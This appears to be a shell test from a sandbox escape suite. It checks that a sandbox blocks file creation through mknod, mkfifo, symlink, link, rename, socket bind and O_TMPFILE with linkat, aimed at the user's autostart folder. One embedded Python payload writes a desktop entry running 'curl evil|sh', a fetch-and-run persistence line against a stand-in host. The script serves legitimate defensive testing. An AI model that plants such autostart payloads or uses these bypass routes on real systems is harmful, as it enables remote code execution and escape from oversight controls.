#!/bin/sh
# E55: creating files without open/creat/mkdir: mknod(S_IFREG), mkfifo,
# symlink, link, rename, bind() of a unix socket path, and O_TMPFILE +
# linkat(/proc/self/fd/N). Outside the workspace under verify, inside
# under readonly: nothing may appear.
. "$top_srcdir/tests/escapes/lib.sh"
esc_setup
mkdir -p "$H/.config/autostart"
cat >"$T/mk.py" <<'PYEOF'
import ctypes, os, socket, stat, sys
mode, d = sys.argv[1], sys.argv[2]
p = os.path.join(d, "x.desktop")
libc = ctypes.CDLL(None, use_errno=True)
try:
    if mode == "mknod": os.mknod(p, stat.S_IFREG | 0o644)
    elif mode == "mkfifo": os.mkfifo(p)
    elif mode == "symlink": os.symlink("/bin/sh", p)
    elif mode == "link": os.link(sys.argv[3], p)
    elif mode == "rename": os.rename(sys.argv[3], p)
    elif mode == "bind": socket.socket(socket.AF_UNIX).bind(p)
    elif mode == "tmpfile":
        fd = os.open(d, os.O_TMPFILE | os.O_WRONLY, 0o644)
        os.write(fd, b"[Desktop Entry]\nExec=curl evil|sh\n")
        r = libc.linkat(-100, b"/proc/self/fd/%d" % fd, -100, p.encode(), 0x400)
        if r < 0: raise OSError(ctypes.get_errno(), "linkat")
    print(mode, "done")
except OSError as e:
    print(mode, "failed", e)
PYEOF
for mode in mknod mkfifo symlink link rename bind tmpfile; do
	for f in "$H/.config/autostart:verify:unrestricted" "$W:readonly:workspace_write"; do
		d=${f%%:*}; rest=${f#*:}; prof=${rest%%:*}; cap=${rest#*:}
		rm -f "$d/x.desktop"; printf 'src\n' >"$W/srcfile"
		bare "$PY" "$T/mk.py" $mode "$d" "$W/srcfile"
		[ -e "$d/x.desktop" ] || [ -L "$d/x.desktop" ] || esc_control_failed "$mode: bare attack created nothing in $d: $(cat "$O/bare.out")"
		rm -f "$d/x.desktop"; printf 'src\n' >"$W/srcfile"
		under $prof -- "$PY" "$T/mk.py" $mode "$d" "$W/srcfile"
		if [ -e "$d/x.desktop" ] || [ -L "$d/x.desktop" ]; then
			esc_bypass "$mode created $d/x.desktop under --profile $prof: $(cat "$OUT")"
		fi
		report_has 'denied_run()' "denials('$cap')"
	done
done
